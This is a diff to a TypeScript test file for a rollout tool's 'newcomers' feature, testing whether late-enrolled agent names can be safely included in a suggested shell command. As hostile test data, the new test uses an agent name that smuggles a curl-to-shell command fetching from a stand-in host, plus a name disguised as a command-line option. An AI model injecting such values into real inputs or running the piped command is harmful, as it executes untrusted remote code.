@@ -143,10 +143,49 @@ t.test(
     const late = await world.enrol('late-1')
     await world.enrol('late-2', '1.1.0')
     const found = await world.newcomers(id)
-    t.strictSame(found, { names: ['late-1'], next: "marshlight updates plan 1.1.0 --rings 'new=late-1' --start" })
+    t.strictSame(found, {
+      names: ['late-1'],
+      brings: 1,
+      next: "marshlight updates plan 1.1.0 --rings 'new=late-1' --start",
+    })
     const next = await world.start('1.1.0', { rings: [{ name: 'new', agents: [late] }] })
     await world.look()
     t.match(await world.desired(late), { rollout: next, step: 'fetch' }, 'and so it gets it')
     t.equal(await world.newcomers(id), undefined, 'an older rollout brings nobody to its release')
+  },
+)
+
+t.test(
+  'only newcomers are named to be brought in, when it has ended, by names that no shell reads as more',
+  async (t) => {
+    const world = await rolloutWorld(t, 2)
+    await world.release('1.1.0', 2)
+    const [first] = world.agents
+    world.time.now += minute
+    const id = await world.start('1.1.0', { rings: [{ name: 'few', agents: [first?.id] }], gateMinutes: 0 })
+    const phases = new Map<string, UpdatePhase>()
+    world.time.now += minute
+    const foul = await world.enrol("x'; curl evil|sh; '")
+    const dashed = await world.enrol('--start')
+    for (const name of ['late-1', 'late-2', 'late_3.lan']) await world.enrol(name)
+    const names = ['--start', 'late-1', 'late-2', 'late_3.lan', "x'; curl evil|sh; '"]
+    t.strictSame(await world.newcomers(id), { names, brings: 0 }, 'while it runs, nothing is advised')
+    for (let i = 0; i < 30 && (await world.rollout(id)).status === 'running'; i++) {
+      await world.look()
+      await liveOn(world, id, phases)
+      world.time.now += minute
+    }
+    const who = `${dashed}|late-1|late-2|late_3.lan|${foul}`
+    t.strictSame(await world.newcomers(id), {
+      names,
+      brings: 5,
+      next: `marshlight updates plan 1.1.0 --rings 'new=${who}' --start`,
+    })
+    for (let i = 10; i < 60; i++) await world.enrol(`many-${i}`)
+    const many = await world.newcomers(id)
+    t.match(many, { brings: 50, names: { length: 55 } }, 'of very many, a first part')
+    const batch = world.agents.filter(({ name }) => /^(many|--)/.test(name)).map((one) => one.id)
+    const next = await world.start('1.1.0', { rings: [{ name: 'new', agents: batch }] })
+    t.strictSame(await world.newcomers(next), { names: names.slice(1), brings: 0 }, 'and then the others')
   },
 )
